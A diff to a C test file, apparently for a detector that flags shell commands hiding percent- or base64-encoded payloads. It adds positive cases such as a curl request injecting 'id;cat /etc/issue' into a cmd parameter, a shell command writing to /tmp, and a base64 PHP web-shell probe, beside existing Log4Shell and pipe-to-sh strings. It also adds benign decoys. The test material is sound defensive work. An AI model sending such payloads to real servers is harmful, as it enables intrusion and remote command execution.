@@ -10,6 +10,14 @@ static const struct hidden good[] = {
 		"2f%2f%31%39%38%2e%35%31%2e%31%30%30%2e%37%2f%78%7c%73%68'" },
 	{ "percent", "${jndi:ldap://h/a}",
 		"curl 'http://h/\?q=%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D'" },
+	{ "percent", "id;cat /etc/issue",
+		"curl 'http://h/c.php\?cmd=id%3Bcat%20%2Fetc%2Fissue'" },
+	{ "percent", "sh -c 'id > /tmp/w'",
+		"curl -d 'a=1&z0=sh+-c+%27id+%3E+%2Ftmp%2Fw%27' http://h/s" },
+	{ "percent+base64", "@ini_set('a','0');echo('->|');die();\n",
+		"curl -d "
+		"'z1=x&p=QGluaV9zZXQoJ2EnLCcwJyk7ZWNobygnLT58Jyk7ZGllKCk7Cg"
+		"%3D%3D' http://h/s" },
 };
 
 static const char *const not [] = {
@@ -18,6 +26,8 @@ static const char *const not [] = {
 	"git log '--pretty=%h %ad %ae %s'",
 	"curl 'https://h/search\?q=hello%20world%2Fx%3Fy'",
 	"curl http://h/a%20b%20c/%E4%BD%A0%E5%A5%BD",
+	"curl -d 'grant_type=authorization_code&code=4%2F0AX4XfWj%2Bx' h",
+	"curl 'http://h/\?sig=c2lnbmF0dXJl%2BAAECAwQFBgcICQ%3D%3D'",
 	"awk '{printf \"%c %d\", $1, 42}'",
 	"sed 's/%20/ /g'",
 	"printf '%s\\n' hello",
